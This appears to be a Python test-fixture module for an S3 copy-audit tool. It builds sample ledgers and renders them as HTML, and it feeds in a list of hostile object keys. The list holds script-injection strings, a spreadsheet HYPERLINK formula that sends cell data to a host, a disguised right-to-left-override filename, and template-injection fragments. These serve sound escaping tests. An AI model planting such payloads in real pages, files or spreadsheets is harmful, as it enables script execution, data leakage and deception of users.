"""Ledgers worth a page: many objects, all verdicts, hostile keys."""

from __future__ import annotations

import random
from dataclasses import replace
from datetime import timedelta
from typing import TYPE_CHECKING

from intact.adapters.flat import flat_rows
from intact.adapters.overview import overview
from intact.audit import Verdict
from intact.render.page import html_page
from intact.s3 import ObjectFacts
from tests.ledgers import HEADER, RECORDS, written
from tests.worlds import BEGIN

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from intact.adapters.ledger import LedgerReader
    from intact.audit import Record
    from intact.audit.ledger import Header

JOB = replace(HEADER, subject="arn:aws:s3:eu-west-1:111122223333:job/6a4d1f20-5c1f")
HOSTILE = (
    "</script><script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    '=HYPERLINK("http://127.0.0.1:9/?" & A1)',
    "invoice\u202egpj.exe",
    "a\x00b\nc\u200bd\u2028e",
    "{{ 7 * 7 }} ]]> --> <!-- ${1} `x` | @everyone \\u003c",
)
_FOLDERS = ("logs/2026/11/", "logs/2026/10/", "photos/raw/", "exports/region=eu-west-1/", "")
_GOOD = [r for r in RECORDS if r.finding.verdict is Verdict.VERIFIED]
_BAD = [r for r in RECORDS if r.finding.verdict is not Verdict.VERIFIED]
_WRONG = [r for r in _BAD if r.finding.verdict is Verdict.MISMATCHED]


def ledger(
    path: Path, *, good: int = 0, bad: int = 0, hostile: int = 0, header: Header = JOB
) -> LedgerReader:
    """A finished ledger of so many rows that are verified, not verified, and that attack."""
    chance = random.Random(7)  # noqa: S311 - examples
    kinds = [_GOOD] * good + [_BAD] * bad
    chance.shuffle(kinds)
    records = [_moved(chance, chance.choice(kind), row) for row, kind in enumerate(kinds, 1)]
    records += [_named(_WRONG[0], good + bad + 1 + n, HOSTILE[n % 6]) for n in range(hostile)]
    return written(path, records, header=header)


def named(path: Path, *keys: str) -> LedgerReader:
    """A finished ledger of one wrong copy for each key."""
    records = [_named(_WRONG[0], row, key) for row, key in enumerate(keys, 1)]
    return written(path, records, header=JOB)


def _named(record: Record, row: int, key: str) -> Record:
    copy = record.copy
    if copy.source is None or copy.destination is None:
        return replace(record, copy=replace(copy, row=row))
    source, destination = replace(copy.source, key=key), replace(copy.destination, key=key)
    return replace(record, copy=replace(copy, row=row, source=source, destination=destination))


def _moved(chance: random.Random, record: Record, row: int) -> Record:
    record = _named(record, row, f"{chance.choice(_FOLDERS)}object-{row:06}.bin")
    facts = record.evidence.destination
    if not isinstance(facts, ObjectFacts):
        return record
    when = BEGIN + timedelta(seconds=chance.randrange(3600))
    facts = replace(facts, last_modified=when, size=10 ** chance.randrange(2, 10))
    return replace(record, evidence=replace(record.evidence, destination=facts))


def page(reader: LedgerReader, *, most: int = 100_000) -> str:
    return "".join(pieces(reader, most=most))


def pieces(reader: LedgerReader, *, most: int) -> Iterator[str]:
    rows = flat_rows(reader, besides=Verdict.VERIFIED)
    return html_page(overview(reader), rows, version="0.1.0", most=most)
